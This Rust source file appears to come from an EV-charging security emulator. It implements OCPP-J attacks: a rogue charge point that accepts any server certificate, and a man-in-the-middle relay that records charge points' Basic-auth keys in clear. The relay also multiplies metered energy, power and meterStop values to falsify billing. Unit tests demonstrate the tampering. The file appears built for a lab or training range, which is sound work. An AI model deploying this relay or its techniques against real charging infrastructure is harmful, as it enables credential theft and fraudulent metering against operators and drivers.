//! OCPP-J attacks of the Workstation (issue 11 item 7; docs/ev-charging.md
//! "Attacks on OCPP"): a rogue charge point ([`connect`]) and a
//! man-in-the-middle relay ([`Mitm`]).
//!
//! Contract:
//! - [`connect`] opens a WebSocket to an OCPP-J server from the
//!   Workstation's own stack, as charge point `box_id` (subprotocol
//!   `ocpp1.6`, Basic auth with the key if given), over `ws://` or
//!   `wss://` (TLS 1.2/1.3 accepting any server certificate:
//!   [`fieldtwin_emulator::tls_client`]; no client certificate, so a
//!   security-profile-3 server refuses the handshake, reported as an
//!   error naming TLS) and reports the HTTP status of the handshake, the
//!   server's reason if it refused, and the BootNotification answer if it
//!   was admitted; then it closes.
//! - [`Mitm`] is a real relay over the device transports: it listens on the
//!   Workstation's stack (8887 `ws://`, 8443 `wss://` with a self-signed
//!   certificate of its own, which no station of the site trusts), reads
//!   each charge point's upgrade request (path = box id, its Basic auth,
//!   recorded in clear), opens the same request to the target's OCPP
//!   server from `upstream` (the Workstation's stack, or a victim's when it
//!   spoofs that address on the path), answers the charge point with the
//!   target's status (so a refusal reaches it as such), then relays every
//!   frame both ways: CALLs MeterValues get their energy and power sampled
//!   values multiplied by `factor`, StopTransaction its meterStop.
//!   Everything it saw is counted in [`Stats`]. It stops with its token
//!   (the `ocpp_mitm_stop` attack, or the Workstation's power loss).

use std::collections::BTreeMap;
use std::net::{Ipv4Addr, SocketAddr};
use std::pin::Pin;
use std::sync::{Arc, Mutex};
use std::task::{Context, Poll};
use std::time::Duration;

use base64::Engine;
use fieldtwin_emulator::attack::AttackResult;
use fieldtwin_emulator::device::DeviceContext;
use fieldtwin_emulator::net::{BoxStream, Stack};
use futures::{SinkExt, StreamExt};
use serde::Serialize;
use serde_json::{Value, json};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt, ReadBuf};
use tokio_tungstenite::tungstenite::Message;
use tokio_tungstenite::tungstenite::client::IntoClientRequest;
use tokio_tungstenite::tungstenite::http::HeaderValue;
use tokio_util::sync::CancellationToken;

use crate::proto::ocpp::link::{self, Credentials, SiteCa};
use crate::proto::ocpp::{Frame, SUBPROTOCOL, rpc};

/// The plain OCPP-J port the relay listens on (an EVCE's).
pub const WS_PORT: u16 = 8887;
/// The TLS OCPP-J port the relay listens on.
pub const WSS_PORT: u16 = 8443;
/// Samples of tampered values kept in [`Stats::samples`].
pub const MAX_SAMPLES: usize = 100;
/// Longest upgrade request the relay reads.
const MAX_REQUEST: usize = 8192;

fn lock<T>(m: &Mutex<T>) -> std::sync::MutexGuard<'_, T> {
    m.lock().unwrap_or_else(|e| e.into_inner())
}

/// The rogue's TLS client: any server certificate, no client certificate.
fn any_certificate() -> Arc<rustls::ClientConfig> {
    static CONFIG: std::sync::OnceLock<Arc<rustls::ClientConfig>> = std::sync::OnceLock::new();
    CONFIG
        .get_or_init(|| {
            Arc::new(
                fieldtwin_emulator::tls_client::any_certificate()
                    .expect("ring supports the default TLS versions"),
            )
        })
        .clone()
}

/// Connects as charge point `box_id` (see the module contract).
pub async fn connect(
    stack: &dyn Stack,
    to: SocketAddr,
    tls: bool,
    box_id: &str,
    key: Option<&str>,
) -> Result<AttackResult, String> {
    let tcp = super::connect(stack, to).await?;
    let scheme = if tls { "wss" } else { "ws" };
    let url = format!("{scheme}://{to}/ocpp/{box_id}");
    let tcp: BoxStream = if tls {
        let name = rustls::pki_types::ServerName::IpAddress(to.ip().into());
        let connector = tokio_rustls::TlsConnector::from(any_certificate());
        match tokio::time::timeout(super::ANSWER_TIMEOUT, connector.connect(name, tcp)).await {
            Ok(Ok(t)) => Box::new(t),
            Ok(Err(e)) => return Err(format!("{url}: the TLS handshake failed: {e}")),
            Err(_) => {
                return Err(format!(
                    "{url}: no TLS handshake answer within {:?}",
                    super::ANSWER_TIMEOUT
                ));
            }
        }
    } else {
        tcp
    };
    let mut req = url
        .as_str()
        .into_client_request()
        .map_err(|e| format!("{url}: {e}"))?;
    req.headers_mut().insert(
        "Sec-WebSocket-Protocol",
        HeaderValue::from_static(SUBPROTOCOL),
    );
    if let Some(k) = key {
        let token = base64::engine::general_purpose::STANDARD.encode(format!("{box_id}:{k}"));
        if let Ok(v) = HeaderValue::from_str(&format!("Basic {token}")) {
            req.headers_mut().insert("Authorization", v);
        }
    }
    let hs = tokio::time::timeout(
        super::ANSWER_TIMEOUT,
        tokio_tungstenite::client_async(req, tcp),
    )
    .await
    .map_err(|_| {
        format!(
            "{url}: no handshake answer within {:?}",
            super::ANSWER_TIMEOUT
        )
    })?;
    match hs {
        Ok((ws, _)) => {
            let (rpc, _incoming, driver) = rpc::start(ws, None);
            let task = tokio::spawn(driver);
            let boot = rpc
                .call(
                    "BootNotification",
                    json!({"chargePointVendor": "Schneider Electric", "chargePointModel": "EVlink Pro AC"}),
                    super::ANSWER_TIMEOUT,
                )
                .await;
            rpc.close();
            let _ = task.await;
            Ok(AttackResult::OcppConnect {
                status: 101,
                admitted: true,
                message: None,
                boot_status: boot
                    .ok()
                    .and_then(|v| v["status"].as_str().map(str::to_string)),
            })
        }
        Err(tokio_tungstenite::tungstenite::Error::Http(resp)) => {
            let message = resp
                .body()
                .as_ref()
                .map(|b| String::from_utf8_lossy(b).trim().to_string())
                .filter(|s| !s.is_empty());
            Ok(AttackResult::OcppConnect {
                status: resp.status().as_u16(),
                admitted: false,
                message,
                boot_status: None,
            })
        }
        Err(e) => Err(format!("{url}: {e}")),
    }
}

/// One tampered sample.
#[derive(Debug, Clone, Serialize)]
pub struct Sample {
    pub box_id: String,
    pub what: String,
    pub original: f64,
    pub tampered: f64,
}

/// What the relay saw (the Workstation's details, `mitm`).
#[derive(Debug, Clone, Default, Serialize)]
pub struct Stats {
    pub running: bool,
    pub listening: Vec<String>,
    pub target: String,
    pub upstream_source: String,
    pub factor: f64,
    /// Charge points that completed the TCP connection.
    pub connections: u64,
    /// TLS connections whose client refused the relay's certificate (or
    /// gave up) before any OCPP was read.
    pub tls_refused: u64,
    /// Relayed sessions (both handshakes done), by box id.
    pub sessions: BTreeMap<String, u64>,
    /// Upgrades the target refused, by box id: its HTTP status.
    pub refused_upstream: BTreeMap<String, u16>,
    /// Basic auth read in clear: box id -> AuthorizationKey.
    pub credentials: BTreeMap<String, String>,
    /// Frames relayed station -> server and back.
    pub to_server: u64,
    pub to_station: u64,
    /// CALLs read, by action.
    pub calls: BTreeMap<String, u64>,
    /// Messages whose values were changed.
    pub tampered: u64,
    pub samples: Vec<Sample>,
}

/// A running relay.
pub struct Mitm {
    pub token: CancellationToken,
    pub stats: Arc<Mutex<Stats>>,
}

/// Where the relay forwards to.
#[derive(Clone)]
struct Upstream {
    stack: Arc<dyn Stack>,
    target: Ipv4Addr,
    factor: f64,
    stats: Arc<Mutex<Stats>>,
}

impl Mitm {
    /// Starts the relay on `stack` (see the module contract).
    pub async fn start(
        ctx: &DeviceContext,
        stack: Arc<dyn Stack>,
        upstream: Arc<dyn Stack>,
        target: Ipv4Addr,
        factor: f64,
    ) -> Result<(Mitm, AttackResult), String> {
        if !factor.is_finite() || !(0.0..=10.0).contains(&factor) {
            return Err(format!(
                "factor {factor} is out of range; give 0 to 10 (1: read only)"
            ));
        }
        let plain = stack
            .listen_tcp(WS_PORT)
            .await
            .map_err(|e| format!("the relay cannot listen on {WS_PORT}: {e}"))?;
        let tls = stack
            .listen_tcp(WSS_PORT)
            .await
            .map_err(|e| format!("the relay cannot listen on {WSS_PORT}: {e}"))?;
        let ip = stack.ipv4();
        let listening = vec![
            format!("ws://{ip}:{}/ocpp", stack.public_port(WS_PORT)),
            format!("wss://{ip}:{}/ocpp", stack.public_port(WSS_PORT)),
        ];
        let stats = Arc::new(Mutex::new(Stats {
            running: true,
            listening: listening.clone(),
            target: target.to_string(),
            upstream_source: upstream.ipv4().to_string(),
            factor,
            ..Stats::default()
        }));
        let token = CancellationToken::new();
        let up = Upstream {
            stack: upstream.clone(),
            target,
            factor,
            stats: stats.clone(),
        };
        let server_cfg = self_signed(ip)?;
        for (mut listener, tls) in [(plain, None), (tls, Some(server_cfg))] {
            let (up, token, c2) = (up.clone(), token.clone(), ctx.clone());
            ctx.spawn(async move {
                loop {
                    let accepted = tokio::select! {
                        _ = token.cancelled() => break,
                        a = listener.accept() => a,
                    };
                    let Ok((s, _peer)) = accepted else { break };
                    lock(&up.stats).connections += 1;
                    let (up, token, tls) = (up.clone(), token.clone(), tls.clone());
                    c2.spawn(async move {
                        tokio::select! {
                            _ = token.cancelled() => {}
                            _ = relay(up, s, tls) => {}
                        }
                    });
                }
            });
        }
        let result = AttackResult::OcppMitm {
            listening,
            upstream_source: upstream.ipv4().to_string(),
        };
        Ok((Mitm { token, stats }, result))
    }

    /// Stops it; what it did.
    pub fn stop(&self) -> AttackResult {
        self.token.cancel();
        let mut s = lock(&self.stats);
        s.running = false;
        AttackResult::OcppMitmStop {
            relayed: s.to_server + s.to_station,
            tampered: s.tampered,
        }
    }
}

/// A TLS 1.2 server configuration with a self-signed certificate for `ip`
/// (the attacker's own: not signed by the site's OCPP CA).
fn self_signed(ip: Ipv4Addr) -> Result<Arc<rustls::ServerConfig>, String> {
    let mut p = rcgen::CertificateParams::default();
    p.distinguished_name
        .push(rcgen::DnType::CommonName, "ocpp-local-controller");
    p.subject_alt_names = vec![rcgen::SanType::IpAddress(std::net::IpAddr::V4(ip))];
    let key = rcgen::KeyPair::generate().map_err(|e| e.to_string())?;
    let cert = p.self_signed(&key).map_err(|e| e.to_string())?;
    let der = rustls::pki_types::PrivateKeyDer::Pkcs8(rustls::pki_types::PrivatePkcs8KeyDer::from(
        key.serialize_der(),
    ));
    let cfg = rustls::ServerConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_protocol_versions(&[&rustls::version::TLS12])
    .map_err(|e| e.to_string())?
    .with_no_client_auth()
    .with_single_cert(vec![cert.der().clone()], der)
    .map_err(|e| e.to_string())?;
    Ok(Arc::new(cfg))
}

/// A stream that first gives back bytes already read from it.
struct Prefixed {
    head: Vec<u8>,
    at: usize,
    inner: BoxStream,
}

impl AsyncRead for Prefixed {
    fn poll_read(
        mut self: Pin<&mut Self>,
        cx: &mut Context<'_>,
        buf: &mut ReadBuf<'_>,
    ) -> Poll<std::io::Result<()>> {
        if self.at < self.head.len() {
            let n = (self.head.len() - self.at).min(buf.remaining());
            let at = self.at;
            buf.put_slice(&self.head[at..at + n]);
            self.at += n;
            return Poll::Ready(Ok(()));
        }
        Pin::new(&mut self.inner).poll_read(cx, buf)
    }
}

impl AsyncWrite for Prefixed {
    fn poll_write(
        mut self: Pin<&mut Self>,
        cx: &mut Context<'_>,
        buf: &[u8],
    ) -> Poll<std::io::Result<usize>> {
        Pin::new(&mut self.inner).poll_write(cx, buf)
    }
    fn poll_flush(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<std::io::Result<()>> {
        Pin::new(&mut self.inner).poll_flush(cx)
    }
    fn poll_shutdown(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<std::io::Result<()>> {
        Pin::new(&mut self.inner).poll_shutdown(cx)
    }
}

/// Reads an HTTP request head (up to the blank line).
async fn read_head(s: &mut BoxStream) -> Option<Vec<u8>> {
    let mut head = Vec::new();
    let mut byte = [0u8; 1024];
    while !head.windows(4).any(|w| w == b"\r\n\r\n") {
        if head.len() > MAX_REQUEST {
            return None;
        }
        let n = s.read(&mut byte).await.ok()?;
        if n == 0 {
            return None;
        }
        head.extend_from_slice(&byte[..n]);
    }
    Some(head)
}

/// The box id (last path segment) and the Basic auth of an upgrade request.
fn parse_head(head: &[u8]) -> Option<(String, Option<(String, String)>)> {
    let text = String::from_utf8_lossy(head);
    let mut lines = text.split("\r\n");
    let path = lines.next()?.split_whitespace().nth(1)?.to_string();
    let box_id = path.trim_end_matches('/').rsplit('/').next()?.to_string();
    let mut auth = None;
    for l in lines {
        if let Some((k, v)) = l.split_once(':')
            && k.trim().eq_ignore_ascii_case("authorization")
            && let Ok(v) = HeaderValue::from_str(v.trim())
        {
            auth = link::basic_auth(Some(&v));
        }
    }
    (!box_id.is_empty()).then_some((box_id, auth))
}

fn status_of(error: &str) -> u16 {
    error
        .split("HTTP error: ")
        .nth(1)
        .and_then(|s| s.get(..3))
        .and_then(|s| s.parse().ok())
        .unwrap_or(502)
}

/// One charge point through the relay.
async fn relay(up: Upstream, s: BoxStream, tls: Option<Arc<rustls::ServerConfig>>) {
    let tls_down = tls.is_some();
    let mut s: BoxStream = match tls {
        None => s,
        Some(cfg) => {
            let acceptor = tokio_rustls::TlsAcceptor::from(cfg);
            match tokio::time::timeout(Duration::from_secs(10), acceptor.accept(s)).await {
                Ok(Ok(t)) => Box::new(t),
                _ => {
                    lock(&up.stats).tls_refused += 1;
                    return;
                }
            }
        }
    };
    let Some(head) = read_head(&mut s).await else {
        return;
    };
    let Some((box_id, auth)) = parse_head(&head) else {
        let _ = s
            .write_all(b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n")
            .await;
        return;
    };
    if let Some((u, p)) = &auth {
        lock(&up.stats).credentials.insert(u.clone(), p.clone());
    }
    // The same request to the target, from `upstream`.
    let (scheme, port) = if tls_down {
        ("wss", WSS_PORT)
    } else {
        ("ws", WS_PORT)
    };
    let to = super::endpoint(up.stack.as_ref(), up.target, port);
    let creds = Credentials {
        box_id: box_id.clone(),
        authorization_key: auth.map(|(_, p)| p),
        tls: if tls_down {
            link::client_config(SiteCa::get().pem.as_bytes(), None).ok()
        } else {
            None
        },
    };
    let url = format!("{scheme}://{to}/ocpp");
    let server = match link::connect(up.stack.as_ref(), &url, &creds, Duration::from_secs(10)).await
    {
        Ok(ws) => ws,
        Err(e) => {
            let code = status_of(&e);
            lock(&up.stats).refused_upstream.insert(box_id, code);
            let _ = s
                .write_all(
                    format!("HTTP/1.1 {code} Refused\r\nContent-Length: 0\r\n\r\n").as_bytes(),
                )
                .await;
            return;
        }
    };
    let prefixed = Prefixed {
        head,
        at: 0,
        inner: s,
    };
    #[allow(clippy::result_large_err)]
    let cb = |_req: &tokio_tungstenite::tungstenite::handshake::server::Request,
              mut resp: tokio_tungstenite::tungstenite::handshake::server::Response| {
        resp.headers_mut().insert(
            "Sec-WebSocket-Protocol",
            HeaderValue::from_static(SUBPROTOCOL),
        );
        Ok(resp)
    };
    let Ok(station) = tokio_tungstenite::accept_hdr_async(prefixed, cb).await else {
        return;
    };
    *lock(&up.stats).sessions.entry(box_id.clone()).or_default() += 1;
    let (mut st_tx, mut st_rx) = station.split();
    let (mut sv_tx, mut sv_rx) = server.split();
    loop {
        tokio::select! {
            m = st_rx.next() => {
                let Some(Ok(m)) = m else { break };
                let m = match m {
                    Message::Text(t) => Message::text(tamper(&up.stats, up.factor, &box_id, t.as_ref())),
                    Message::Close(_) => break,
                    Message::Binary(b) => Message::Binary(b),
                    _ => continue,
                };
                lock(&up.stats).to_server += 1;
                if sv_tx.send(m).await.is_err() { break; }
            }
            m = sv_rx.next() => {
                let Some(Ok(m)) = m else { break };
                let m = match m {
                    Message::Text(t) => Message::Text(t),
                    Message::Binary(b) => Message::Binary(b),
                    Message::Close(_) => break,
                    _ => continue,
                };
                lock(&up.stats).to_station += 1;
                if st_tx.send(m).await.is_err() { break; }
            }
        }
    }
    let _ = st_tx.close().await;
    let _ = sv_tx.close().await;
}

/// A station's frame on its way to the server, tampered if it is a
/// MeterValues or StopTransaction CALL.
fn tamper(stats: &Mutex<Stats>, factor: f64, box_id: &str, text: &str) -> String {
    let Ok(Frame::Call {
        id,
        action,
        mut payload,
    }) = Frame::parse(text)
    else {
        return text.to_string();
    };
    let mut st = lock(stats);
    *st.calls.entry(action.clone()).or_default() += 1;
    let mut changed = Vec::new();
    match action.as_str() {
        "MeterValues" => {
            if let Some(mvs) = payload.get_mut("meterValue").and_then(Value::as_array_mut) {
                for mv in mvs {
                    let Some(svs) = mv.get_mut("sampledValue").and_then(Value::as_array_mut) else {
                        continue;
                    };
                    for sv in svs {
                        let what = sv["measurand"]
                            .as_str()
                            .unwrap_or("Energy.Active.Import.Register")
                            .to_string();
                        if !what.starts_with("Energy.Active.Import")
                            && !what.starts_with("Power.Active.Import")
                        {
                            continue;
                        }
                        let Some(v) = sv["value"].as_str().and_then(|v| v.parse::<f64>().ok())
                        else {
                            continue;
                        };
                        let t = (v * factor).round();
                        sv["value"] = json!(format!("{t}"));
                        changed.push((what, v, t));
                    }
                }
            }
        }
        "StopTransaction" => {
            if let Some(v) = payload["meterStop"].as_i64() {
                let t = (v as f64 * factor).round();
                payload["meterStop"] = json!(t as i64);
                changed.push(("meterStop".to_string(), v as f64, t));
            }
        }
        _ => {}
    }
    if changed.is_empty() {
        return text.to_string();
    }
    st.tampered += 1;
    for (what, original, tampered) in changed {
        if st.samples.len() < MAX_SAMPLES {
            st.samples.push(Sample {
                box_id: box_id.to_string(),
                what,
                original,
                tampered,
            });
        }
    }
    Frame::Call {
        id,
        action,
        payload,
    }
    .encode()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn upgrade_requests_give_box_id_and_credentials() {
        let head = b"GET /ocpp/cs2 HTTP/1.1\r\nHost: x\r\nAuthorization: Basic Y3MyOnNlY3JldGtleQ==\r\n\r\n";
        let (b, a) = parse_head(head).unwrap();
        assert_eq!(b, "cs2");
        assert_eq!(a, Some(("cs2".into(), "secretkey".into())));
        assert!(parse_head(b"GET / HTTP/1.1\r\n\r\n").is_none());
        assert!(parse_head(b"\r\n\r\n").is_none());
        assert_eq!(
            status_of("WebSocket handshake with x: HTTP error: 403 Forbidden"),
            403
        );
        assert_eq!(status_of("TCP to x: refused"), 502);
    }

    #[test]
    fn meter_values_and_stops_are_tampered_the_rest_passes() {
        let stats = Mutex::new(Stats::default());
        let mv = r#"[2,"7","MeterValues",{"connectorId":1,"transactionId":3,"meterValue":[{"timestamp":"t","sampledValue":[{"value":"1000","measurand":"Energy.Active.Import.Register","unit":"Wh"},{"value":"7400","measurand":"Power.Active.Import","unit":"W"},{"value":"55.0","measurand":"SoC","unit":"Percent"}]}]}]"#;
        let out = tamper(&stats, 0.5, "cs2", mv);
        let Frame::Call { id, payload, .. } = Frame::parse(&out).unwrap() else {
            panic!("{out}")
        };
        assert_eq!(id, "7");
        let sv = &payload["meterValue"][0]["sampledValue"];
        assert_eq!(
            (
                sv[0]["value"].as_str(),
                sv[1]["value"].as_str(),
                sv[2]["value"].as_str()
            ),
            (Some("500"), Some("3700"), Some("55.0"))
        );
        let stop =
            r#"[2,"8","StopTransaction",{"transactionId":3,"meterStop":2001,"timestamp":"t"}]"#;
        let out = tamper(&stats, 0.5, "cs2", stop);
        assert!(out.contains("\"meterStop\":1001"), "{out}");
        let hb = r#"[2,"9","Heartbeat",{}]"#;
        assert_eq!(tamper(&stats, 0.5, "cs2", hb), hb);
        assert_eq!(tamper(&stats, 0.5, "cs2", "not json"), "not json");
        let st = lock(&stats);
        assert_eq!(st.tampered, 2);
        assert_eq!(st.samples.len(), 3);
        assert_eq!(st.calls["Heartbeat"], 1);
    }
}
